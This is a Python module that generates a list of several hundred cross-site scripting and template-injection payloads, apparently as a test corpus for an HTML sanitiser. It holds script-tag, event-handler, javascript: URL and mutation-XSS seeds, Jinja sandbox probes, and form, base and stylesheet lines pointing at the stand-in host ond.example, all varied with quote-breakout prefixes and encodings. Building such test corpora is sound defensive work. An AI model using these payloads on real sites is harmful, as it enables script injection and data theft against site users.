"""Texts that would act if a page took them for markup: every way in, in every dress; at least 300."""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

SEEDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1)//>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>klik</a>",
    "<form action=//ond.example><button>Tryk</button>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import'//ond.example'</style>",
    "<link rel=stylesheet href=//ond.example>",
    "<meta http-equiv=refresh content='0;url=//ond.example'>",
    "<base href=//ond.example/>",
    "<object data=//ond.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "\u202e<b>vendt</b>\u2066",
)
BEFORE = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title></head>",
    "</option></select>",
    '" autofocus onfocus="alert(1)" x="',
    "-->",
    "`",
    '\\"',
)
ENCODED = (
    *(quote(seed) for seed in SEEDS),
    *(escape(seed) for seed in SEEDS),
    *(seed.replace("<", "\uff1c").replace(">", "\uff1e") for seed in SEEDS),
    *(seed.upper() for seed in SEEDS[:20]),
    *(seed.replace(" ", "\t") for seed in SEEDS[:20]),
)
PAYLOADS = tuple(dict.fromkeys([*(before + seed for before, seed in product(BEFORE, SEEDS)), *ENCODED]))
